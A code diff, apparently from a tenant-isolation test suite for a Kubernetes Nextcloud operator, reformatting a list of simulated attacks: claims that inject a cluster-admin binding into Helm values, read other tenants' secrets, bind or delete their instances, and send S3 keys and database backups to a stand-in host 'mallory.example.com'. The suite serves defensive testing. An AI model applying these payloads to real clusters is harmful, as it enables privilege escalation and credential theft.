@@ -17,8 +17,8 @@ from konverge.reconcilers.shared.helm_release.kinds import HELM_RELEASE
 
 __all__ = ["ATTACKS"]
 
-SHARED: Final = {"poolSelector": {"matchLabels": {"tier": "shared"}}}
-PRIVATE_POOL: Final = {"poolSelector": {"matchLabels": {"tier": "private"}}}
+SHARED: Final[dict[str, Any]] = {"poolSelector": {"matchLabels": {"tier": "shared"}}}
+PRIVATE_POOL: Final[dict[str, Any]] = {"poolSelector": {"matchLabels": {"tier": "private"}}}
 CRB: Final = {
     "apiVersion": "rbac.authorization.k8s.io/v1",
     "kind": "ClusterRoleBinding",
@@ -53,7 +53,13 @@ SECRET_FIELDS: Final[tuple[tuple[str, dict[str, Any]], ...]] = (
     ),
     (
         "ingress.tls.secretName",
-        {"ingress": {"enabled": True, "host": "a.example.com", "tls": {"enabled": True, "secretName": "smtp-of-victim"}}},
+        {
+            "ingress": {
+                "enabled": True,
+                "host": "a.example.com",
+                "tls": {"enabled": True, "secretName": "smtp-of-victim"},
+            }
+        },
     ),
 )
 
@@ -93,7 +99,8 @@ def chart_row(name: str, row: str, part: dict[str, Any], marker: str) -> Attack:
     """Return an attack that writes a part of the spec which reaches a chart."""
 
     async def act(here: Scene) -> Sequence[str]:
-        for number, base in enumerate((SHARED, {"profile": "base"}, {})):
+        bases: tuple[dict[str, Any], ...] = (SHARED, {"profile": "base"}, {})
+        for number, base in enumerate(bases):
             await claim(here, {**base, **part}, f"evil-{number}")
         await here.rest()
         text = await released(here)
@@ -116,7 +123,12 @@ def secret_row(field: str, part: dict[str, Any]) -> Attack:
 
 
 _USERS_OF_SECRETS: Final = frozenset(
-    {"helmreleases.helm.toolkit.fluxcd.io", "clusters.postgresql.cnpg.io", "cronjobs.batch", "scheduledbackups.postgresql.cnpg.io"}
+    {
+        "helmreleases.helm.toolkit.fluxcd.io",
+        "clusters.postgresql.cnpg.io",
+        "cronjobs.batch",
+        "scheduledbackups.postgresql.cnpg.io",
+    }
 )
 
 
@@ -188,7 +200,14 @@ async def forge_metadata(here: Scene) -> None:
         "k8s.bnerd.com/reconcile": "now",
         "k8s.bnerd.com/run-maintenance": "occ user:list",
     }
-    await claim(here, SHARED, labels=marks, annotations=notes, ownerReferences=[reference], finalizers=["k8s.bnerd.com/instance"])
+    await claim(
+        here,
+        SHARED,
+        labels=marks,
+        annotations=notes,
+        ownerReferences=[reference],
+        finalizers=["k8s.bnerd.com/instance"],
+    )
 
 
 async def take_bucket(here: Scene) -> None:
@@ -209,13 +228,22 @@ async def send_keys(here: Scene) -> None:
         s3 = {"enabled": True, "endpoint": endpoint, "bucket": "files", "credentialsSecret": "s3-keys"}
         await claim(here, {**SHARED, "s3": s3}, f"evil-{number}")
         await claim(here, {**SHARED, "s3": {"endpoint": endpoint}}, f"bare-{number}")
-    await claim(here, {"s3": {"enabled": True, "endpoint": "https://mallory.example.com", "credentialsSecret": "s3-keys"}}, "bare")
+    await claim(
+        here,
+        {"s3": {"enabled": True, "endpoint": "https://mallory.example.com", "credentialsSecret": "s3-keys"}},
+        "bare",
+    )
 
 
 async def mirror_backups(here: Scene) -> Sequence[str]:
-    data = {"enabled": True, "bucket": "loot", "endpoint": "https://mallory.example.com", "credentialsSecret": "s3-keys"}
-    database = {"postgres": {"backup": {"enabled": True, "s3": {**data, "enabled": None}}}}
-    del database["postgres"]["backup"]["s3"]["enabled"]
+    data = {
+        "enabled": True,
+        "bucket": "loot",
+        "endpoint": "https://mallory.example.com",
+        "credentialsSecret": "s3-keys",
+    }
+    server = {name: value for name, value in data.items() if name != "enabled"}
+    database = {"type": "postgresql", "managed": True, "postgres": {"backup": {"enabled": True, "s3": server}}}
     await claim(here, {**SHARED, "backups": {"data": data}}, "evil-files")
     await claim(here, {**SHARED, "database": database}, "evil-database")
     await here.rest()
@@ -286,7 +314,10 @@ async def forge_pool_members(here: Scene) -> None:
 
 
 async def forge_claim_ref(here: Scene) -> Sequence[str]:
-    waits = {"metadata": {"name": "waits", "namespace": VICTIM}, "spec": {"poolSelector": {"matchLabels": {"tier": "none"}}}}
+    waits = {
+        "metadata": {"name": "waits", "namespace": VICTIM},
+        "spec": {"poolSelector": {"matchLabels": {"tier": "none"}}},
+    }
     late = await here.admin.create(Nextcloud.decode(waits))
     reference = {"namespace": VICTIM, "name": "waits", "uid": late.metadata.uid}
     await forge(here, spec={"claimRef": reference}, labels={"k8s.bnerd.com/claim-uid": late.metadata.uid})
@@ -324,8 +355,18 @@ async def hold_back(here: Scene) -> None:
 
 
 ATTACKS: Final = (
-    chart_row("values of a claim reach the chart", "helm.values", {"helm": {"values": {"extraManifests": [CRB]}}}, "mallory-is-admin"),
-    chart_row("the chart version of a claim reaches Flux", "helm.version", {"helm": {"version": "6.6.6-mallory"}}, "6.6.6-mallory"),
+    chart_row(
+        "values of a claim reach the chart",
+        "helm.values",
+        {"helm": {"values": {"extraManifests": [CRB]}}},
+        "mallory-is-admin",
+    ),
+    chart_row(
+        "the chart version of a claim reaches Flux",
+        "helm.version",
+        {"helm": {"version": "6.6.6-mallory"}},
+        "6.6.6-mallory",
+    ),
     chart_row("the version of a claim becomes an image", "version", {"version": "33.0.1-mallory"}, "33.0.1-mallory"),
     chart_row(
         "annotations of an ingress inject configuration",
@@ -349,9 +390,15 @@ ATTACKS: Final = (
     Attack("a claim names the bucket of the victim", ("Nextcloud spec.s3.bucket",), take_bucket),
     Attack("a claim selects a pool that serves the victim only", ("Nextcloud spec.poolSelector",), select_private),
     Attack("a claim binds idle instances of another namespace", ("Nextcloud spec.instanceRef",), bind_private),
-    Attack("a claim binds and deletes instances of another namespace", ("Nextcloud spec.instanceRef",), bind_and_delete),
+    Attack(
+        "a claim binds and deletes instances of another namespace", ("Nextcloud spec.instanceRef",), bind_and_delete
+    ),
     Attack("a claim binds the victims instances", ("Nextcloud spec.instanceRef",), bind_taken),
-    Attack("a claim binds the victims instance without a namespace", ("Nextcloud spec.instanceRef",), bind_without_namespace),
+    Attack(
+        "a claim binds the victims instance without a namespace",
+        ("Nextcloud spec.instanceRef",),
+        bind_without_namespace,
+    ),
     Attack("a claim gives back what it took", ("Nextcloud spec.poolSelector",), retain),
     Attack("claims have the names of the victims claims", ("Nextcloud metadata.name",), same_names),
     Attack(
